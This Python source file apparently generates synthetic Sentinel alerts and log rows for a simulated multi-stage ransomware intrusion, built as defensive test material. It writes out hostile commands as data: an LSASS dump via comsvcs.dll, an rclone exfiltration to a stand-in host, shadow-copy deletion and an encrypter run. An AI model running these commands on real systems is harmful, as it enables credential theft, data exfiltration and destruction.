"""The attack that runs through the estate, in nine steps over two days, and the telemetry each step leaves.

Phishing mail, stolen session after MFA fatigue, mailbox rule, new sign-in method, lateral movement, LSASS dump,
domain administrator, exfiltration, attempted encryption. One incident joins its alerts; the rows lie in the tables
where an analyst would look for them.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass
from datetime import datetime, timedelta

from sentinel_rag.workspace.estate.company import (
    ADMINISTRATOR,
    ATTACKER_ADDRESSES,
    DOMAIN,
    NETBIOS,
    TENANT_ID,
    VICTIM,
    device_id,
    host_address,
    host_name,
)
from sentinel_rag.workspace.estate.entities import EntityList
from sentinel_rag.workspace.estate.hostile_texts import MAIL_SUBJECT
from sentinel_rag.workspace.estate.records import AlertCase, Change, IncidentCase, Row, stable_guid

LENGTH = timedelta(hours=52)
PHISHING_URL = "https://sharepoint-docs.example.net/woodgrove/invoice-4471"
SENDER = "billing@supplier-invoices.example"
EXFILTRATION_DOMAIN = "files.transfer-cdn.example.net"
DUMP_COMMAND = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 668 C:\ProgramData\d.dmp full"
ENCRYPTER_SHA256 = "7d1a54127b222502f5b79b5fb0803061152a44f92b37e23c6527baf665d4da9a"
WORKSTATION, FILE_SERVER, DOMAIN_CONTROLLER = VICTIM.host, "srv-file-01", "srv-dc-01"
_CLOUD, _EXFILTRATION = ATTACKER_ADDRESSES


@dataclass(frozen=True, slots=True)
class Attack:
    """The alerts and raw rows of the attack that ends shortly before the estate does."""

    case: IncidentCase
    rows: Mapping[str, list[Row]]


def attack(*, number: int, defender_id: int, end: datetime, seed: int) -> Attack:
    """The attack with its incident `number`, beginning `LENGTH` before `end`."""
    start = end - LENGTH
    alerts = _alerts(start, seed)
    case = IncidentCase(
        number=number,
        defender_id=defender_id,
        title="Multi-stage attack: phishing, stolen session, credential dump and attempted encryption",
        severity="Medium",
        created=alerts[1].at + timedelta(minutes=2),
        alerts=alerts,
        labels=("LATEST", "Ransomware"),
        changes=(
            Change(after=timedelta(hours=3), by="Automation rule - assign", owner=ADMINISTRATOR),
            Change(after=timedelta(hours=27), by="Alert correlation", severity="High"),
            Change(
                after=timedelta(hours=29),
                by=ADMINISTRATOR.upn,
                status="Active",
                comment="LSASS dump on srv-file-01, treating as hands-on-keyboard. Isolating wks-fin-02.",
            ),
            Change(after=timedelta(hours=40), by="Alert correlation"),
            Change(
                after=timedelta(hours=48),
                by=ADMINISTRATOR.upn,
                comment="Encryption was blocked; 4.6 GB had left before. Next: reset Åsa’s credentials.",
            ),
        ),
    )
    return Attack(case, _telemetry(start, seed))


def _alerts(start: datetime, seed: int) -> tuple[AlertCase, ...]:
    mail = EntityList()
    mail.mailbox(VICTIM)
    mail.mail(
        sender=SENDER, recipient=VICTIM.upn, subject=MAIL_SUBJECT, network_message_id=stable_guid(seed, "phishing mail")
    )
    mail.url(PHISHING_URL)
    mail.account(VICTIM)

    sign_in = EntityList()
    sign_in.account(VICTIM)
    sign_in.ip(_CLOUD, "RO")
    sign_in.cloud_application("Microsoft Exchange Online", 20893)

    rule = EntityList()
    rule.account(VICTIM)
    rule.mailbox(VICTIM)
    rule.ip(_CLOUD, "RO")

    movement = EntityList()
    workstation = movement.host(WORKSTATION)
    movement.account(VICTIM)
    image = movement.file(r"C:\Users\Public", "psexesvc.exe", ENCRYPTER_SHA256[::-1], workstation)
    movement.process(r"psexesvc.exe \\srv-file-01 -s cmd.exe", "5120", image, workstation)
    movement.host(FILE_SERVER)
    movement.host(WORKSTATION)

    dump = EntityList()
    server = dump.host(FILE_SERVER)
    dump.account(VICTIM)
    image = dump.file(r"C:\Windows\System32", "rundll32.exe", "a" * 8 + ENCRYPTER_SHA256[8:], server)
    dump.process(DUMP_COMMAND, "7344", image, server)
    dump.host(FILE_SERVER)

    takeover = EntityList()
    takeover.account(ADMINISTRATOR)
    takeover.host(DOMAIN_CONTROLLER)
    takeover.ip(host_address(FILE_SERVER))

    leak = EntityList()
    leak.host(FILE_SERVER)
    leak.ip(_EXFILTRATION, "RO")
    leak.account(ADMINISTRATOR)

    encryption = EntityList()
    server = encryption.host(FILE_SERVER)
    image = encryption.file(r"C:\ProgramData\svc", "winupd64.exe", ENCRYPTER_SHA256, server)
    encryption.process(r"C:\ProgramData\svc\winupd64.exe --path D:\Shares --ext .wdgrv", "9012", image, server)
    encryption.account(ADMINISTRATOR)
    encryption.host(FILE_SERVER)

    def at(hours: float) -> datetime:
        return start + timedelta(hours=hours)

    return (
        AlertCase(
            key="attack-phishing",
            name="A potentially malicious URL click was detected",
            severity="Medium",
            at=at(0.4),
            product="MDO",
            description="A user clicked a link that was classified as phishing after delivery.",
            entities=mail.json(),
            tactics=("InitialAccess",),
            techniques=("T1566",),
            compromised=VICTIM.upn,
        ),
        AlertCase(
            key="attack-sign-in",
            name="Unfamiliar sign-in properties",
            severity="High",
            at=at(0.9),
            product="AADIP",
            description="Sign-in from a country not seen for this user, after fourteen refused MFA prompts.",
            entities=sign_in.json(),
            tactics=("InitialAccess", "CredentialAccess"),
            techniques=("T1078", "T1621"),
            compromised=VICTIM.upn,
            extended={"Client IP Address": _CLOUD, "Client Location": "Bucharest, RO"},
        ),
        AlertCase(
            key="attack-inbox-rule",
            name="Suspicious inbox manipulation rule",
            severity="Medium",
            at=at(1.5),
            product="MCAS",
            description="A rule that hides messages about invoices and security was set on the mailbox.",
            entities=rule.json(),
            tactics=("DefenseEvasion", "Collection"),
            techniques=("T1564", "T1114"),
            compromised=VICTIM.upn,
        ),
        AlertCase(
            key="attack-lateral",
            name="Suspicious remote activity",
            severity="Medium",
            at=at(26.2),
            product="MDE",
            description="A service was installed and started on another device from this one.",
            entities=movement.json(),
            tactics=("LateralMovement", "Execution"),
            techniques=("T1021", "T1569"),
            compromised=host_name(WORKSTATION),
        ),
        AlertCase(
            key="attack-lsass",
            name="Sensitive credential memory read",
            severity="High",
            at=at(28.1),
            product="MDE",
            description="The memory of LSASS was written to a file by comsvcs.dll.",
            entities=dump.json(),
            tactics=("CredentialAccess",),
            techniques=("T1003",),
            compromised=host_name(FILE_SERVER),
        ),
        AlertCase(
            key="attack-domain-admin",
            name="Domain administrator logon from an unusual device",
            severity="High",
            at=at(29.3),
            product="SENTINEL",
            description="A domain administrator signed in to a domain controller from a file server.",
            entities=takeover.json(),
            tactics=("PrivilegeEscalation", "LateralMovement"),
            techniques=("T1078", "T1550"),
            compromised=host_name(DOMAIN_CONTROLLER),
            extended={
                "Query": "SecurityEvent\n| where EventID == 4624 and TargetUserName == 'asa.oberg'\r\n| take 10",
                "Query Start Time UTC": (start + timedelta(hours=28)).isoformat() + "Z",
                "Query End Time UTC": (start + timedelta(hours=30)).isoformat() + "Z",
            },
        ),
        AlertCase(
            key="attack-exfiltration",
            name="Unusual volume of data sent to a rare destination",
            severity="High",
            at=at(40.2),
            product="SENTINEL",
            description="4.6 GB were sent from a file server to an address that no other device contacts.",
            entities=leak.json(),
            tactics=("Exfiltration",),
            techniques=("T1048",),
            compromised=host_name(FILE_SERVER),
        ),
        AlertCase(
            key="attack-encryption",
            name="Ransomware behavior was blocked",
            severity="High",
            at=at(47.1),
            product="MDE",
            description="Shadow copies were deleted and files renamed in bulk; the process was stopped.",
            entities=encryption.json(),
            tactics=("Impact",),
            techniques=("T1486", "T1490"),
            compromised=host_name(FILE_SERVER),
            remediation=(
                "Keep the device isolated.",
                "Restore from the backup taken before the user’s “Invoice 4471”.",
            ),
        ),
    )


def _telemetry(start: datetime, seed: int) -> dict[str, list[Row]]:
    def at(hours: float, seconds: float = 0.0) -> datetime:
        return start + timedelta(hours=hours, seconds=seconds)

    refused = [
        _sign_in(
            at(0.6, 45 * prompt), "500121", "Authentication failed during strong authentication request.", seed, prompt
        )
        for prompt in range(14)
    ]
    return {
        "EmailEvents": [
            {
                "TimeGenerated": at(0.0),
                "NetworkMessageId": stable_guid(seed, "phishing mail"),
                "SenderFromAddress": SENDER,
                "SenderFromDomain": SENDER.partition("@")[2],
                "SenderIPv4": _CLOUD,
                "RecipientEmailAddress": VICTIM.upn,
                "Subject": MAIL_SUBJECT,
                "EmailDirection": "Inbound",
                "DeliveryAction": "Delivered",
                "UrlCount": 1,
                "Type": "EmailEvents",
            }
        ],
        "UrlClickEvents": [
            {
                "TimeGenerated": at(0.3),
                "AccountUpn": VICTIM.upn,
                "ActionType": "ClickAllowed",
                "Url": PHISHING_URL,
                "IPAddress": "192.0.2.10",
                "NetworkMessageId": stable_guid(seed, "phishing mail"),
                "Workload": "Email",
                "Type": "UrlClickEvents",
            }
        ],
        "SigninLogs": [*refused, _sign_in(at(0.6, 700), "0", "", seed, 14)],
        "OfficeActivity": [
            {
                "TimeGenerated": at(1.4),
                "Operation": "New-InboxRule",
                "OfficeWorkload": "Exchange",
                "RecordType": "ExchangeAdmin",
                "ResultStatus": "True",
                "UserId": VICTIM.upn,
                "ClientIP": f"{_CLOUD}:52114",
                "UserAgent": "Client=OWA;Action=ViaProxy",
                "Parameters": json.dumps(
                    [
                        {"Name": "Name", "Value": "."},
                        {"Name": "SubjectOrBodyContainsWords", "Value": "invoice;payment;security;O'Brien"},
                        {"Name": "MoveToFolder", "Value": "RSS Subscriptions"},
                        {"Name": "MarkAsRead", "Value": "True"},
                    ]
                ),
                "Type": "OfficeActivity",
            }
        ],
        "AuditLogs": [
            {
                "TimeGenerated": at(6.0),
                "OperationName": "User registered security info",
                "Category": "UserManagement",
                "Result": "success",
                "ResultReason": "User registered Authenticator App",
                "LoggedByService": "Authentication Methods",
                "Identity": VICTIM.display_name,
                "InitiatedBy": json.dumps({"user": {"userPrincipalName": VICTIM.upn, "ipAddress": _CLOUD}}),
                "TargetResources": json.dumps([{"userPrincipalName": VICTIM.upn, "type": "User"}]),
                "Type": "AuditLogs",
            }
        ],
        "DeviceProcessEvents": [
            _process(
                at(25.9), WORKSTATION, "powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA", VICTIM.account
            ),
            _process(at(26.1), WORKSTATION, "psexesvc.exe", r"psexesvc.exe \\srv-file-01 -s cmd.exe", VICTIM.account),
            _process(at(28.0), FILE_SERVER, "rundll32.exe", DUMP_COMMAND, VICTIM.account),
            _process(
                at(39.5),
                FILE_SERVER,
                "rclone.exe",
                rf"rclone.exe copy D:\Shares\Finance remote: --sftp-host {EXFILTRATION_DOMAIN}",
                ADMINISTRATOR.account,
            ),
            _process(
                at(46.9), FILE_SERVER, "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", ADMINISTRATOR.account
            ),
            _process(
                at(47.0),
                FILE_SERVER,
                "winupd64.exe",
                r"C:\ProgramData\svc\winupd64.exe --path D:\Shares --ext .wdgrv",
                ADMINISTRATOR.account,
                sha256=ENCRYPTER_SHA256,
            ),
        ],
        "DeviceLogonEvents": [
            {
                "TimeGenerated": at(26.15),
                "ActionType": "LogonSuccess",
                "DeviceId": device_id(FILE_SERVER),
                "DeviceName": host_name(FILE_SERVER),
                "AccountDomain": NETBIOS,
                "AccountName": VICTIM.account,
                "LogonType": "Network",
                "RemoteIP": host_address(WORKSTATION),
                "RemoteDeviceName": WORKSTATION,
                "Type": "DeviceLogonEvents",
            }
        ],
        "SecurityEvent": [
            _logon(at(26.15), FILE_SERVER, VICTIM.account, host_address(WORKSTATION), WORKSTATION),
            _logon(at(29.2), DOMAIN_CONTROLLER, ADMINISTRATOR.account, host_address(FILE_SERVER), FILE_SERVER),
            {
                "TimeGenerated": at(28.0),
                "EventID": 4688,
                "Activity": "4688 - A new process has been created.",
                "Channel": "Security",
                "Computer": host_name(FILE_SERVER),
                "Account": rf"{NETBIOS}\{VICTIM.account}",
                "NewProcessName": r"C:\Windows\System32\rundll32.exe",
                "CommandLine": DUMP_COMMAND,
                "Type": "SecurityEvent",
            },
        ],
        "DeviceNetworkEvents": [
            {
                "TimeGenerated": at(39.6, 40 * number),
                "ActionType": "ConnectionSuccess",
                "DeviceId": device_id(FILE_SERVER),
                "DeviceName": host_name(FILE_SERVER),
                "RemoteIP": _EXFILTRATION,
                "RemotePort": 443,
                "RemoteUrl": EXFILTRATION_DOMAIN,
                "LocalIP": host_address(FILE_SERVER),
                "Protocol": "Tcp",
                "InitiatingProcessFileName": "rclone.exe",
                "InitiatingProcessAccountName": ADMINISTRATOR.account,
                "Type": "DeviceNetworkEvents",
            }
            for number in range(24)
        ],
        "CommonSecurityLog": [
            {
                "TimeGenerated": at(39.6, 120 * number),
                "DeviceVendor": "Palo Alto Networks",
                "DeviceProduct": "PAN-OS",
                "DeviceAction": "allow",
                "SourceIP": host_address(FILE_SERVER),
                "DestinationIP": _EXFILTRATION,
                "DestinationPort": 443,
                "SentBytes": 575_000_000,
                "ReceivedBytes": 91_000,
                "Type": "CommonSecurityLog",
            }
            for number in range(8)
        ],
        "DnsEvents": [
            {
                "TimeGenerated": at(39.55),
                "Computer": host_name(DOMAIN_CONTROLLER),
                "ClientIP": host_address(FILE_SERVER),
                "Name": EXFILTRATION_DOMAIN,
                "QueryType": "A",
                "IPAddresses": _EXFILTRATION,
                "SubType": "LookupQuery",
                "Result": "Success",
                "ResultCode": 0,
                "Type": "DnsEvents",
            }
        ],
        "DeviceFileEvents": [
            {
                "TimeGenerated": at(47.0, 2 * number),
                "ActionType": "FileRenamed",
                "DeviceId": device_id(FILE_SERVER),
                "DeviceName": host_name(FILE_SERVER),
                "FileName": f"Budget 20{number:02d} – März.xlsx.wdgrv",
                "FolderPath": rf"D:\Shares\Finance\St. John's office\Budget 20{number:02d} – März.xlsx.wdgrv",
                "InitiatingProcessFileName": "winupd64.exe",
                "InitiatingProcessSHA256": ENCRYPTER_SHA256,
                "Type": "DeviceFileEvents",
            }
            for number in range(40)
        ],
        "ThreatIntelligenceIndicator": [
            {
                "TimeGenerated": at(4.0),
                "Active": True,
                "Action": "alert",
                "ConfidenceScore": 85,
                "ThreatType": "C2",
                "NetworkIP": address,
                "IndicatorId": stable_guid(seed, "indicator", address),
                "ExpirationDateTime": at(24 * 60),
                "Description": "Infrastructure of a ransomware affiliate",
                "Type": "ThreatIntelligenceIndicator",
            }
            for address in ATTACKER_ADDRESSES
        ],
    }


def _sign_in(at: datetime, result: str, description: str, seed: int, number: int) -> Row:
    return {
        "TimeGenerated": at,
        "TenantId": TENANT_ID,
        "Id": stable_guid(seed, "attack sign-in", number),
        "CorrelationId": stable_guid(seed, "attack session"),
        "UserPrincipalName": VICTIM.upn,
        "UserDisplayName": VICTIM.display_name,
        "UserId": VICTIM.object_id,
        "Identity": VICTIM.display_name,
        "AppDisplayName": "Office 365 Exchange Online",
        "IPAddress": _CLOUD,
        "Location": "RO",
        "LocationDetails": json.dumps({"city": "Bucharest", "countryOrRegion": "RO"}),
        "ResultType": result,
        "ResultDescription": description,
        "ConditionalAccessStatus": "success" if result == "0" else "failure",
        "AuthenticationRequirement": "multiFactorAuthentication",
        "RiskLevelDuringSignIn": "high",
        "RiskState": "atRisk",
        "ClientAppUsed": "Browser",
        "UserAgent": "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        "DeviceDetail": json.dumps({"operatingSystem": "Linux", "browser": "Firefox 115.0"}),
        "OperationName": "Sign-in activity",
        "Category": "SignInLogs",
        "Type": "SigninLogs",
    }


def _process(at: datetime, host: str, file_name: str, command_line: str, account: str, sha256: str = "") -> Row:
    return {
        "TimeGenerated": at,
        "ActionType": "ProcessCreated",
        "DeviceId": device_id(host),
        "DeviceName": host_name(host),
        "AccountDomain": NETBIOS,
        "AccountName": account,
        "AccountUpn": f"{account}@{DOMAIN}",
        "FileName": file_name,
        "FolderPath": rf"C:\Windows\System32\{file_name}",
        "SHA256": sha256,
        "ProcessCommandLine": command_line,
        "InitiatingProcessFileName": "cmd.exe",
        "InitiatingProcessCommandLine": "cmd.exe",
        "Type": "DeviceProcessEvents",
    }


def _logon(at: datetime, host: str, account: str, address: str, workstation: str) -> Row:
    return {
        "TimeGenerated": at,
        "EventID": 4624,
        "Activity": "4624 - An account was successfully logged on.",
        "Channel": "Security",
        "Computer": host_name(host),
        "Account": rf"{NETBIOS}\{account}",
        "TargetUserName": account,
        "TargetDomainName": NETBIOS,
        "LogonType": 3,
        "LogonTypeName": "3 - Network",
        "IpAddress": address,
        "WorkstationName": workstation,
        "AuthenticationPackageName": "NTLM",
        "Type": "SecurityEvent",
    }
